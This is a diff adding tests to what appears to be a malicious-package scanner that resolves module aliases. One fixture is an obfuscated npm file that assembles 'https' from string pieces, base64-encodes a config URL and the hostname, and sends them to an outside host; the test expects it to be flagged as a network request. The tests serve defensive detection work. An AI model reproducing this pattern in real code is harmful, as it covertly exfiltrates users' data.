@@ -32,6 +32,16 @@ describe('module aliases', () => {
     expect(compiled?.text).toContain('\nos.userInfo();');
   });
 
+  it("writes a member named in brackets (`m['get']`) as the module's", () => {
+    expect(aliasedView("const m = require('https');\nm['get']({ host: h }, cb)[\"on\"]('error', f);\nm[k]();\n")?.text).toBe("const m = require('https');\nhttps.get({ host: h }, cb)[\"on\"]('error', f);\nm[k]();\n");
+  });
+
+  it('binds a module whose name is joined from pieces, and reads the request made through it', () => {
+    const diag = "const os = require('os');\nconst m = require(['ht', 'tps'].join(''));\nfunction once(cfg) {\n  const q = Buffer.from(JSON.stringify({ c: cfg.url, h: os.hostname() })).toString('base64');\n  m['get']({ host: 'px.pool-insights.com', path: '/p.gif?d=' + q });\n}\nmodule.exports = { once };\n";
+    const out = analyzeSource(releaseOf('npm', { 'package.json': JSON.stringify({ name: 'x', main: 'diag.js' }), 'diag.js': diag }), ctx);
+    expect(out.findings.find((f) => f.code === 'network_request')?.line).toBe(5);
+  });
+
   it('gives nothing for a file without aliases, and stays bounded on large input', () => {
     expect(aliasedView("const os = require('os');\nos.hostname();\n")).toBeNull();
     expect(aliasedView('')).toBeNull();
